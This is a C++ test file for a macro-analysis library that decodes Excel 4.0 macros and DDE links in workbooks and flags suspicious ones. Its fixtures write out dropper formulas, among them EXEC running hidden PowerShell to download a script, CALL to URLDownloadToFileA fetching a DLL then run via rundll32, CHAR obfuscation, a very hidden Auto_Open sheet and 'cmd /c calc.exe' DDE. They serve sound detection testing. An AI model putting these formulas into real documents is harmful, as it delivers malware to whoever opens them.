// kensa::xlm against oletools' Excel 4.0 test workbooks (the same macro sheet saved as .xls,
// Excel 5 .xls, .xlt, .xlsm, .xltm, .xlsb and .slk: =ALERT("This is a sample Excel 4 macro") in
// A1, =HALT() in A2, Auto_Open pointing at A1), its DDE test workbooks (cmd /c calc.exe), and
// BIFF8 record streams built here for what those files do not cover: EXEC / REGISTER / CALL
// droppers, very hidden sheets, DDE through SUPBOOK, FILEPASS, SST across CONTINUE, damage.
#include <algorithm>
#include <catch2/catch.hpp>
#include <cstring>
#include <string>

#include "biff_builder.h"
#include "kensa/archive/archive_reader.h"
#include "kensa/core/file.h"
#include "kensa/ole/compound_file.h"
#include "kensa/xlm/xlm_analysis.h"

namespace kensa::xlm {
namespace {

const std::string kExcel4 = "../shared/corpora/oletools-tests/tests/test-data/excel4-macros/";
const std::string kMsoDde = "../shared/corpora/oletools-tests/tests/test-data/msodde/";

Bytes ReadCorpus(const std::string& path) {
  auto data = ReadFileBounded(path, 16u << 20);
  REQUIRE(data.has_value());
  return std::move(*data);
}

XlmAnalysis AnalyzeXls(const std::string& path) {
  const Bytes file = ReadCorpus(path);
  auto compound = ole::CompoundFile::Open(file);
  REQUIRE(compound.has_value());
  auto stream = compound->ReadStream("Workbook");
  if (!stream) stream = compound->ReadStream("Book");
  REQUIRE(stream.has_value());
  return AnalyzeBiffWorkbook(*stream);
}

XlmAnalysis AnalyzePackage(const std::string& path) {
  const Bytes file = ReadCorpus(path);
  auto listing = archive::ReadArchive(file, {}, archive::ArchiveLimits{});
  REQUIRE(listing.has_value());
  std::vector<PackagePart> parts;
  for (const auto& member : listing->members) parts.push_back({member.name, member.data});
  return AnalyzeSpreadsheetPackage(parts);
}

bool HasAnomaly(const XlmAnalysis& xlm, const std::string& code) {
  return std::any_of(xlm.anomalies.begin(), xlm.anomalies.end(),
                     [&](const auto& a) { return a.code() == code; });
}

std::string AnomalyDetail(const XlmAnalysis& xlm, const std::string& code) {
  for (const auto& anomaly : xlm.anomalies) {
    if (anomaly.code() == code) return anomaly.detail();
  }
  return "<none>";
}

std::string Dump(const XlmAnalysis& xlm) {
  std::string out = xlm.info.DebugString();
  for (const auto& a : xlm.anomalies) out += a.code() + ": " + a.detail() + "\n";
  return out;
}

// The facts every saved form of oletools' sample shares.
void CheckSampleMacro(const XlmAnalysis& xlm, bool alert_decoded = true) {
  INFO(Dump(xlm));
  REQUIRE(xlm.info.sheets_size() == 2);
  CHECK(xlm.info.sheets(0).name() == "Macro1");
  CHECK(xlm.info.sheets(0).type() == "macrosheet");
  CHECK(xlm.info.sheets(0).visibility() == "visible");
  CHECK(xlm.info.sheets(1).name() == "Sheet1");
  CHECK(xlm.info.sheets(1).type() == "worksheet");
  REQUIRE(xlm.info.formulas_size() == 2);
  CHECK(xlm.info.formulas(0).sheet() == "Macro1");
  CHECK(xlm.info.formulas(0).cell() == "A1");
  if (alert_decoded)
    CHECK(xlm.info.formulas(0).formula() == "=ALERT(\"This is a sample Excel 4 macro\")");
  CHECK(xlm.info.formulas(1).cell() == "A2");
  CHECK(xlm.info.formulas(1).formula() == "=HALT()");
  REQUIRE(xlm.info.auto_run_names_size() == 1);
  CHECK(xlm.info.auto_run_names(0).name() == "Auto_Open");
  CHECK(xlm.info.auto_run_names(0).target() == "Macro1!$A$1");
  CHECK(AnomalyDetail(xlm, "xlm_macro_sheet") == "Macro1 (visible)");
  CHECK(AnomalyDetail(xlm, "xlm_auto_open") == "Auto_Open -> Macro1!$A$1");
  CHECK_FALSE(HasAnomaly(xlm, "xlm_exec"));
  CHECK_FALSE(HasAnomaly(xlm, "xlm_malformed"));
}

TEST_CASE("A BIFF8 macro sheet's formulas, sheet and Auto_Open target are decoded") {
  const XlmAnalysis xlm = AnalyzeXls(kExcel4 + "excel4_sample_macro.xls");
  CHECK(xlm.info.container() == "biff8");
  CheckSampleMacro(xlm);
  CHECK(xlm.info.formulas(0).cached_value() == "FALSE");
  CHECK(xlm.info.formulas(1).cached_value() == "TRUE");
  CHECK(xlm.decoded_text.find("This is a sample Excel 4 macro") != std::string::npos);
}

TEST_CASE("An Excel template (.xlt) reads like a workbook") {
  CheckSampleMacro(AnalyzeXls(kExcel4 + "excel4_sample_macro.xlt"));
}

TEST_CASE("A BIFF5 (Excel 5.0) workbook's macro sheet is decoded") {
  const XlmAnalysis xlm = AnalyzeXls(kExcel4 + "excel4_sample_macro_excel5_format.xls");
  CHECK(xlm.info.container() == "biff5");
  CheckSampleMacro(xlm);
}

TEST_CASE("An XLSM macro sheet's formulas and cached values are read from XML") {
  const XlmAnalysis xlm = AnalyzePackage(kExcel4 + "excel4_sample_macro.xlsm");
  CHECK(xlm.info.container() == "xlsx");
  CheckSampleMacro(xlm);
  CHECK(xlm.info.formulas(0).cached_value() == "0");
}

TEST_CASE("An XLTM template reads like an XLSM") {
  CheckSampleMacro(AnalyzePackage(kExcel4 + "excel4_sample_macro.xltm"));
}

TEST_CASE("An XLSB macro sheet's Rgce formulas are decoded") {
  const XlmAnalysis xlm = AnalyzePackage(kExcel4 + "excel4_sample_macro.xlsb");
  CHECK(xlm.info.container() == "xlsb");
  CheckSampleMacro(xlm);
  CHECK(xlm.info.formulas(0).cached_value() == "FALSE");
}

TEST_CASE("A SYLK file's macro formulas and Auto_Open name are read") {
  const Bytes file = ReadCorpus(kExcel4 + "excel4_sample_macro.slk");
  REQUIRE(LooksLikeSylk(file));
  const XlmAnalysis xlm = AnalyzeSylk(file);
  INFO(Dump(xlm));
  CHECK(xlm.info.container() == "sylk");
  REQUIRE(xlm.info.formulas_size() == 2);
  CHECK(xlm.info.formulas(0).cell() == "A1");
  CHECK(xlm.info.formulas(0).formula() == "=ALERT(\"This is a sample Excel 4 macro\")");
  CHECK(xlm.info.formulas(1).cell() == "A2");
  CHECK(xlm.info.formulas(1).formula() == "=HALT()");
  REQUIRE(xlm.info.auto_run_names_size() == 1);
  CHECK(xlm.info.auto_run_names(0).name() == "Auto_Open");
  CHECK(xlm.info.auto_run_names(0).target() == "R1C1");
  CHECK(HasAnomaly(xlm, "xlm_macro_sheet"));
}

TEST_CASE("DDE links of oletools' dde-test workbooks are found in the cell that uses them") {
  // Both were saved by a German Excel: the sheet is "Tabelle1".
  const std::string sheet = "Tabelle1";
  for (const char* name : {"dde-test.xlsx", "dde-test.xlsm"}) {
    const XlmAnalysis xlm = AnalyzePackage(kMsoDde + name);
    INFO(name << "\n" << Dump(xlm));
    REQUIRE(xlm.info.dde_links_size() == 1);
    CHECK(xlm.info.dde_links(0).server() == "cmd");
    CHECK(xlm.info.dde_links(0).topic() == "/c calc.exe");
    CHECK(xlm.info.dde_links(0).item() == "_xlbgnm.A1");
    CHECK(xlm.info.dde_links(0).location() == sheet + "!B4");
    REQUIRE(xlm.info.formulas_size() == 1);
    CHECK(xlm.info.formulas(0).formula() == "=[1]!_xlbgnm.A1");
    CHECK(AnomalyDetail(xlm, "cell_dde_command") ==
          std::string(sheet) + "!B4: cmd|'/c calc.exe'!_xlbgnm.A1");
    CHECK_FALSE(HasAnomaly(xlm, "xlm_macro_sheet"));
  }
}

TEST_CASE("An XLSB workbook's DDE link is read from its external link part") {
  const XlmAnalysis xlm = AnalyzePackage(kMsoDde + "dde-test.xlsb");
  INFO(Dump(xlm));
  CHECK(xlm.info.container() == "xlsb");
  REQUIRE(xlm.info.dde_links_size() == 1);
  CHECK(xlm.info.dde_links(0).server() == "cmd");
  CHECK(xlm.info.dde_links(0).topic() == "/c calc.exe");
  CHECK(xlm.info.dde_links(0).location() == "xl/externallinks/externallink1.bin");
  CHECK(AnomalyDetail(xlm, "cell_dde_command") ==
        "xl/externallinks/externallink1.bin: cmd|'/c calc.exe'");
}

TEST_CASE("An XML package's very hidden macro sheet, shared-string texts and typed DDE formula are read") {
  const std::string rels =
      R"(<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">)"
      R"(<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>)";
  const std::string workbook_rels =
      R"(<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">)"
      R"(<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>)"
      R"(<Relationship Id="rId2" Type="http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet" Target="/xl/macrosheets/../macrosheets/sheet1.xml"/>)"
      R"(<Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>)";
  const std::string workbook =
      R"(<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">)"
      R"(<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/><sheet name="Doc2" sheetId="2" state="veryHidden" r:id="rId2"/></sheets>)"
      R"(<definedNames><definedName name="_xlnm.Auto_Open" hidden="1">Doc2!$B$3</definedName></definedNames></workbook>)";
  const std::string strings =
      R"(<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>unused</t></si>)"
      R"(<si><r><t>http://a.invoice-cdn.xyz/</t></r><r><t>p.ps1</t></r></si></sst>)";
  const std::string macro_sheet =
      R"(<xm:macrosheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData>)"
      R"(<row r="2"><c r="B2" t="s"><v>1</v></c></row>)"
      R"(<row r="3"><c r="B3" t="str"><f>EXEC("powershell -w hidden iwr "&amp;B2&amp;" -o p.ps1")</f><v>TRUE</v></c></row>)"
      R"(</sheetData></xm:macrosheet>)";
  const std::string worksheet =
      R"(<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>)"
      R"(<row r="1"><c r="A1"><f>SUM(B1:B9)</f></c><c r="C1"><f>cmd|'/c calc.exe'!A0</f></c></row></sheetData></worksheet>)";
  auto span = [](const std::string& text) {
    return ByteSpan(reinterpret_cast<const std::uint8_t*>(text.data()), text.size());
  };
  const std::vector<PackagePart> parts = {
      {"_rels/.rels", span(rels)},
      {"xl/_rels/workbook.xml.rels", span(workbook_rels)},
      {"xl/workbook.xml", span(workbook)},
      {"xl/sharedStrings.xml", span(strings)},
      {"xl/macrosheets/sheet1.xml", span(macro_sheet)},
      {"xl/worksheets/sheet1.xml", span(worksheet)},
  };
  const XlmAnalysis xlm = AnalyzeSpreadsheetPackage(parts);
  INFO(Dump(xlm));
  REQUIRE(xlm.info.sheets_size() == 2);
  CHECK(xlm.info.sheets(1).name() == "Doc2");
  CHECK(xlm.info.sheets(1).type() == "macrosheet");
  CHECK(xlm.info.sheets(1).visibility() == "very_hidden");
  REQUIRE(xlm.info.auto_run_names_size() == 1);
  CHECK(xlm.info.auto_run_names(0).name() == "Auto_Open");
  CHECK(xlm.info.auto_run_names(0).target() == "Doc2!$B$3");
  REQUIRE(xlm.info.macro_sheet_texts_size() == 1);
  CHECK(xlm.info.macro_sheet_texts(0).cell() == "B2");
  CHECK(xlm.info.macro_sheet_texts(0).text() == "http://a.invoice-cdn.xyz/p.ps1");
  // The worksheet's SUM is not an XLM formula; its typed DDE formula is kept.
  REQUIRE(xlm.info.formulas_size() == 2);
  CHECK(xlm.info.formulas(0).formula() == "=cmd|'/c calc.exe'!A0");
  CHECK(xlm.info.formulas(1).formula() == "=EXEC(\"powershell -w hidden iwr \"&B2&\" -o p.ps1\")");
  CHECK(xlm.info.formulas(1).cached_value() == "TRUE");
  CHECK(AnomalyDetail(xlm, "xlm_very_hidden_macro_sheet") == "Doc2");
  CHECK(AnomalyDetail(xlm, "xlm_exec").starts_with("Doc2!B3: =EXEC("));
  CHECK(AnomalyDetail(xlm, "cell_dde_command") == "Sheet1!C1: cmd|'/c calc.exe'!A0");
  CHECK(xlm.decoded_text.find("http://a.invoice-cdn.xyz/p.ps1") != std::string::npos);
}

using namespace testing;

TEST_CASE(
    "A BIFF8 dropper's CALL, EXEC, CHAR chain and self-modifying formulas are decoded and found") {
  const XlmAnalysis xlm = AnalyzeBiffWorkbook(DropperWorkbook());
  INFO(Dump(xlm));
  REQUIRE(xlm.info.sheets_size() == 2);
  CHECK(xlm.info.sheets(0).visibility() == "very_hidden");
  REQUIRE(xlm.info.formulas_size() == 6);
  CHECK(
      xlm.info.formulas(0).formula() ==
      "=CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,\"http://invoice-cdn.xyz/payload.dll\","
      "\"C:\\Users\\Public\\p.dll\",0,0)");
  CHECK(xlm.info.formulas(1).formula() ==
        "=EXEC(\"rundll32.exe C:\\Users\\Public\\p.dll,DllRegisterServer\")");
  CHECK(xlm.info.formulas(2).formula() ==
        "=CHAR(104)&CHAR(116)&CHAR(116)&CHAR(112)&CHAR(58)&CHAR(47)&CHAR(47)&CHAR(98)&CHAR(97)&"
        "CHAR(100)");
  CHECK(xlm.info.formulas(3).formula() == "=FORMULA(\"=HALT()\",A10)");
  CHECK(xlm.info.formulas(4).formula() == "=GOTO(A10)");
  CHECK(xlm.info.formulas(5).formula() == "=HALT()");
  REQUIRE(xlm.info.auto_run_names_size() == 1);
  CHECK(xlm.info.auto_run_names(0).target() == "Doc1!$A$1");

  CHECK(AnomalyDetail(xlm, "xlm_very_hidden_macro_sheet") == "Doc1");
  CHECK_FALSE(HasAnomaly(xlm, "xlm_hidden_macro_sheet"));
  CHECK(AnomalyDetail(xlm, "xlm_auto_open") == "Auto_Open -> Doc1!$A$1");
  CHECK(AnomalyDetail(xlm, "xlm_call_register")
            .starts_with("URLDownloadToFileA via Doc1!A1: =CALL("));
  CHECK(AnomalyDetail(xlm, "xlm_download").starts_with("Doc1!A1: =CALL("));
  CHECK(AnomalyDetail(xlm, "xlm_exec") ==
        "Doc1!A2: =EXEC(\"rundll32.exe C:\\Users\\Public\\p.dll,DllRegisterServer\")");
  std::vector<std::string> obfuscation;
  for (const auto& anomaly : xlm.anomalies) {
    if (anomaly.code() == "xlm_obfuscation") obfuscation.push_back(anomaly.detail());
  }
  REQUIRE(obfuscation.size() == 2);
  CHECK(obfuscation[0].starts_with("CHAR() x10; densest Doc1!A3: =CHAR(104)&"));
  CHECK(obfuscation[1] ==
        "formulas written at run time, then jumped to: Doc1!A4: "
        "=FORMULA(\"=HALT()\",A10) / Doc1!A5: =GOTO(A10)");
  CHECK(xlm.decoded_text.find("http://invoice-cdn.xyz/payload.dll") != std::string::npos);
}

TEST_CASE("A DDE link declared by SUPBOOK and used through ptgNameX reads cmd|'/c calc.exe'!A0") {
  Sheet worksheet{"Sheet1", 0, 0, {Formula(3, 1, ptg::NameX(1, 1))}};
  const Bytes stream = Workbook({SupBookSelf(1), SupBookDde("cmd", "/c calc.exe"), ExternName("A0"),
                                 ExternSheet({{0, 0}, {1, -2}})},
                                {worksheet});
  const XlmAnalysis xlm = AnalyzeBiffWorkbook(stream);
  INFO(Dump(xlm));
  REQUIRE(xlm.info.formulas_size() == 1);
  CHECK(xlm.info.formulas(0).sheet() == "Sheet1");
  CHECK(xlm.info.formulas(0).cell() == "B4");
  CHECK(xlm.info.formulas(0).formula() == "=cmd|'/c calc.exe'!A0");
  REQUIRE(xlm.info.dde_links_size() == 2);
  CHECK(xlm.info.dde_links(0).location() == "SUPBOOK");
  CHECK(xlm.info.dde_links(1).server() == "cmd");
  CHECK(xlm.info.dde_links(1).topic() == "/c calc.exe");
  CHECK(xlm.info.dde_links(1).item() == "A0");
  CHECK(xlm.info.dde_links(1).location() == "Sheet1!B4");
  CHECK(AnomalyDetail(xlm, "cell_dde_command") == "SUPBOOK: cmd|'/c calc.exe'!A0");
  CHECK_FALSE(HasAnomaly(xlm, "xlm_macro_sheet"));
}

TEST_CASE("An encrypted workbook (FILEPASS) is reported and not decoded") {
  const Bytes stream = Workbook({Record(0x002F, Bytes(54, 0x11))}, {Sheet{"Macro1", 0, 1, {}}});
  const XlmAnalysis xlm = AnalyzeBiffWorkbook(stream);
  CHECK(xlm.info.encrypted());
  CHECK(AnomalyDetail(xlm, "xlm_encrypted_workbook")
            .starts_with("FILEPASS at offset 20: records after it are encrypted"));
  CHECK(xlm.info.formulas_size() == 0);
}

TEST_CASE("Shared strings continued in a CONTINUE record with another width are joined") {
  Bytes sst;
  Put32(sst, 2);
  Put32(sst, 2);
  Put16(sst, 3);
  sst.push_back(0);
  PutText(sst, "abc");
  Put16(sst, 20);
  sst.push_back(0);
  PutText(sst, "http://x.e");
  Bytes rest = {0x01};  // the characters go on in UTF-16
  for (char c : std::string("xample/abc")) PutBytes(rest, {static_cast<std::uint8_t>(c), 0});
  Sheet macro{"Macro1", 1, 1, {LabelSst(0, 1, 1), LabelSst(1, 1, 0), LabelSst(2, 1, 99)}};
  const XlmAnalysis xlm =
      AnalyzeBiffWorkbook(Workbook({Record(0x00FC, sst), Record(0x003C, rest)}, {macro}));
  INFO(Dump(xlm));
  REQUIRE(xlm.info.macro_sheet_texts_size() == 2);
  CHECK(xlm.info.macro_sheet_texts(0).cell() == "B1");
  CHECK(xlm.info.macro_sheet_texts(0).text() == "http://x.example/abc");
  CHECK(xlm.info.macro_sheet_texts(1).text() == "abc");
  CHECK(AnomalyDetail(xlm, "xlm_hidden_macro_sheet") == "Macro1");
}

TEST_CASE("Formula tokens decode to Excel's own spelling") {
  const FormulaContext none;
  CHECK(
      DecodeFormula(Join({ptg::Ref(4, 27), ptg::Int(3), Bytes{0x03}}), FormulaDialect::kBiff8, none)
          .text == "=AB5+3");
  CHECK(DecodeFormula(Join({ptg::Ref(4, 27, true)}), FormulaDialect::kBiff8, none).text ==
        "=$AB$5");
  // ptgNum 1.5, ptgBool TRUE, ptgErr #N/A as three arguments of CHOOSE.
  Bytes number = {0x1F};
  const double value = 1.5;
  std::uint64_t bits = 0;
  std::memcpy(&bits, &value, sizeof(bits));
  Put32(number, static_cast<std::uint32_t>(bits));
  Put32(number, static_cast<std::uint32_t>(bits >> 32));
  CHECK(DecodeFormula(
            Join({ptg::Int(1), number, Bytes{0x1D, 1}, Bytes{0x1C, 0x2A}, ptg::FuncVar(4, 100)}),
            FormulaDialect::kBiff8, none)
            .text == "=CHOOSE(1,1.5,TRUE,#N/A)");
  // A quote inside a string literal is doubled, as Excel shows it.
  CHECK(DecodeFormula(ptg::Str("say \"hi\""), FormulaDialect::kBiff8, none).text ==
        "=\"say \"\"hi\"\"\"");
  // An unknown token stops decoding and says so.
  const DecodedFormula cut =
      DecodeFormula(Join({ptg::Int(7), Bytes{0x18, 0x01}}), FormulaDialect::kBiff8, none);
  CHECK_FALSE(cut.complete);
  CHECK(cut.text == "=7 [...]");
  // A truncated token too, and an operator without operands.
  CHECK_FALSE(DecodeFormula(Bytes{0x17, 0x09, 0x00, 'a'}, FormulaDialect::kBiff8, none).complete);
  CHECK(DecodeFormula(Bytes{0x08}, FormulaDialect::kBiff8, none).text == "= [...]");
  // A user-defined function call names itself in its first argument.
  FormulaContext context;
  context.names = {"Kernel32Alloc"};
  CHECK(DecodeFormula(
            Join({Bytes{0x43, 1, 0, 0, 0}, ptg::Int(0), ptg::Int(4096), ptg::FuncVar(3, 255)}),
            FormulaDialect::kBiff8, context)
            .text == "=Kernel32Alloc(0,4096)");
  // A chain of concatenations over long strings stops at the decoder's work bound, clipped.
  Bytes chain = ptg::Str(std::string(200, 'x'));
  for (int i = 0; i < 3000; ++i)
    PutBytes(chain, Join({ptg::Str(std::string(200, 'y')), ptg::Concat()}));
  const DecodedFormula long_chain = DecodeFormula(chain, FormulaDialect::kBiff8, none);
  CHECK_FALSE(long_chain.complete);
  CHECK(long_chain.text.size() <= 8192);
  CHECK(CellName(0, 0) == "A1");
  CHECK(CellName(1048575, 16383) == "XFD1048576");
}

TEST_CASE("Damaged workbooks never crash and every string stays valid UTF-8") {
  const Bytes stream = DropperWorkbook();
  auto round_trips = [](const XlmAnalysis& xlm) {
    std::string wire;
    analysis::v1::XlmInfo back;
    return xlm.info.SerializeToString(&wire) && back.ParseFromString(wire);
  };
  for (std::size_t size = 0; size <= stream.size(); ++size) {
    const Bytes cut(stream.begin(), stream.begin() + static_cast<std::ptrdiff_t>(size));
    const XlmAnalysis xlm = AnalyzeBiffWorkbook(cut);
    REQUIRE(round_trips(xlm));
  }
  for (std::size_t at = 0; at < stream.size(); ++at) {
    for (const int value : {0x00, 0x7F, 0x80, 0xFF}) {
      Bytes damaged = stream;
      damaged[at] = static_cast<std::uint8_t>(value);
      const XlmAnalysis xlm = AnalyzeBiffWorkbook(damaged);
      REQUIRE(round_trips(xlm));
      REQUIRE(static_cast<std::size_t>(xlm.info.formulas_size()) <= XlmLimits{}.max_formulas);
    }
  }
}

TEST_CASE("Limits bound the formulas kept while every formula is counted") {
  Sheet macro{"Macro1", 0, 1, {}};
  for (std::uint16_t row = 0; row < 30; ++row)
    macro.records.push_back(Formula(row, 0, ptg::FuncVar(0, 54)));
  XlmLimits limits;
  limits.max_formulas = 10;
  const XlmAnalysis xlm = AnalyzeBiffWorkbook(Workbook({}, {macro}), limits);
  CHECK(xlm.info.formulas_size() == 10);
  CHECK(xlm.info.formula_count() == 30);
  CHECK(AnomalyDetail(xlm, "xlm_limit") ==
        "more than 10 macro formulas; the rest are counted, not kept");
}

// InQuest's Gandcrab campaign (the only BIFF workbooks in inquest-docs; none of its documents
// carries XLM): Excel 97-2003 droppers that run VBA. Their workbook streams read cleanly, list
// their sheet, and give no Excel 4.0 finding.
TEST_CASE("Real VBA droppers' workbooks read cleanly and give no XLM findings") {
  auto zip = ReadFileBounded("../shared/corpora/inquest-docs/2019-03-Gandcrab.zip", 64u << 20);
  REQUIRE(zip.has_value());
  auto listing = archive::ReadArchive(*zip, {"infected"}, archive::ArchiveLimits{});
  REQUIRE(listing.has_value());
  std::size_t workbooks = 0;
  for (const auto& member : listing->members) {
    auto compound = ole::CompoundFile::Open(member.data);
    if (!compound || compound->Find("Workbook") == nullptr) continue;
    ++workbooks;
    auto stream = compound->ReadStream("Workbook");
    REQUIRE(stream.has_value());
    const XlmAnalysis xlm = AnalyzeBiffWorkbook(*stream);
    INFO(member.name << "\n" << Dump(xlm));
    CHECK(xlm.info.container() == "biff8");
    // One visible worksheet, named in Japanese ("3.2019シート", UTF-16 in the file) except in
    // the larger ed6701b3... ("20190124").
    const bool dated = member.name.find("ed6701b3") != std::string::npos;
    REQUIRE(xlm.info.sheets_size() == 1);
    CHECK(xlm.info.sheets(0).name() ==
          (dated ? "20190124" : "3.2019\xE3\x82\xB7\xE3\x83\xBC\xE3\x83\x88"));
    CHECK(xlm.info.sheets(0).type() == "worksheet");
    CHECK(xlm.info.formulas_size() == 0);
    CHECK(xlm.anomalies.empty());
  }
  CHECK(workbooks == 4);
}

}  // namespace
}  // namespace kensa::xlm
